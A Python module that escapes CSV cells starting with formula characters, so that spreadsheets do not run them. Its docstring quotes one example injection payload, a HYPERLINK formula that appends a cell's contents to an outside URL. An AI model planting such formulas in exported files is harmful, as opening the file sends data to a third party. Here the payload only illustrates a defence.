"""CSV for spreadsheets, without formula injection.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return,
which some programs skip before them) is run as a formula by Excel and
LibreOffice: ``=HYPERLINK("http://…?"&A1, "…")`` in a Jobcenter name would
send a table's contents away when opened. Such cells get a leading
apostrophe, which the spreadsheet shows as text (OWASP "CSV Injection").
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a spreadsheet may safely read it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are escaped cell by cell."""

    def __init__(self, stream: Any) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])
